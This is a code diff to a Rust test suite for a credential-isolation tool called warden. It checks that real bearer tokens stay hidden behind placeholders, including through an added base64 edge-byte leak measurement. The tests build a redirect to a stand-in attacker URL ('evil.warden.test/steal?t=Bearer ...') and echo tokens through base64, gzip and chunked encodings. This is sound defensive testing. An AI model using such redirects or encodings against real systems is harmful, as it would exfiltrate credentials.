@@ -115,7 +115,10 @@ fn redirect_case(s: &Scene) -> Observed {
     let mut j = Judge::new(s, &secret);
     let ph = j.placeholder(&call);
     let location = format!("Location: https://evil.warden.test:{e}/steal?t=Bearer%20{ph}");
-    j.line(&call, "nofollow", &["HTTP/1.1 302"]);
+    j.check(
+        call.run.out().contains("nofollow: HTTP/1.1 200 Connection Established    HTTP/1.1 302 Found"),
+        "nofollow: 302",
+    );
     j.check(call.run.out().matches(&location).count() >= 3, "each Location the tool saw names the placeholder");
     evil_saw_placeholder(&mut j, &evil, &ph);
     let trusted = evil.text().contains(&format!("Authorization: Bearer {ph}"));
@@ -146,21 +149,23 @@ fn echo_case(s: &Scene) -> Observed {
          n() {{ grep -c \"Bearer $API_TOKEN\"; }}\n\
          echo \"raw: $(n < raw.out)\"\n\
          echo \"json: $(n < json.out)\"\n\
-         echo \"base64: $(base64 -d < base64.out | n)\"\n\
+         echo \"base64: $(base64 -d < base64.out | grep -a '^Authorization: ' | tr -d '\\r')\"\n\
          echo \"chunked: $(n < chunked.out)\"\n\
          echo \"gzip: $( (gzip -dc < gzip.out 2>/dev/null || cat gzip.out) | n)\"\n\
          echo \"gzip_compressed: $(n < gzipc.out)\"\n\
-         cat *.out; base64 -d < base64.out; gzip -dc < gzip.out 2>/dev/null\n"
+         cat *.out; base64 -d < base64.out; gzip -dc < gzip.out 2>/dev/null\n",
+        control(a)
     );
     let call = call(s, "cred-echo", pki, &secret, &pol, &cmd);
     if let Some(o) = no_netns(s, &call, &[&api], &secret) {
         return o;
     }
     let mut j = Judge::new(s, &secret);
-    j.placeholder(&call);
-    for name in ["raw", "json", "base64", "chunked", "gzip", "gzip_compressed"] {
+    let ph = j.placeholder(&call);
+    for name in ["raw", "json", "chunked", "gzip", "gzip_compressed"] {
         j.line(&call, name, &["1"]);
     }
+    base64_edges(&mut j, &call, &secret, &ph);
     let n = api.requests().iter().filter(|r| r.contains(&format!("Bearer {}", secret.real))).count();
     j.check(n == 6, format!("the bound server got the real value in {n} of 6 echoed requests"));
     let redacted: u64 = call.attempts(a).iter().map(|x| x["redacted"].as_u64().unwrap_or(0)).sum();
@@ -168,6 +173,32 @@ fn echo_case(s: &Scene) -> Observed {
     controlled(&mut j, &call, &api, &secret);
     j.clean_call(&call);
     j.done(&call)
+}
+
+/// The Authorization the tool decoded from the base64 echo, byte by byte
+/// against the placeholder: warden replaces the base64 characters that
+/// depend on the real value alone, so the edge characters, which mix a
+/// neighbour's bits with the value's first or last byte, still carry a few
+/// bits of it. Said (with how many bits), not judged an escape: the value and
+/// its base64 never reach the tool; more than an edge byte would be.
+fn base64_edges(j: &mut Judge<'_>, call: &super::kit::Call, secret: &Secret, ph: &str) {
+    let out = call.run.out();
+    let got = out.lines().find_map(|l| l.strip_prefix("base64: Authorization: Bearer ")).unwrap_or_default();
+    let (got, ph, real) = (got.as_bytes(), ph.as_bytes(), secret.real.as_bytes());
+    let differ: Vec<usize> = (0..ph.len()).filter(|&i| got.get(i) != ph.get(i)).collect();
+    let edges = differ.iter().all(|&i| i == 0 || i + 1 == ph.len());
+    // Bits of the tool's byte that agree with the real value where the placeholder's do not.
+    let bits: u32 =
+        differ.iter().filter_map(|&i| Some((!(got.get(i)? ^ real.get(i)?) & (got[i] ^ ph[i])).count_ones())).sum();
+    let what = if differ.is_empty() {
+        "base64: decoded, the tool sees exactly its placeholder".to_string()
+    } else {
+        format!(
+            "base64: decoded, the tool sees its placeholder but for byte(s) {differ:?}, which mix the real value's \
+             bits with the placeholder's (about {bits} bit(s) of the real value beyond what the placeholder shares)"
+        )
+    };
+    j.check(got.len() == ph.len() && edges, what);
 }
 
 fn pipeline_case(s: &Scene) -> Observed {
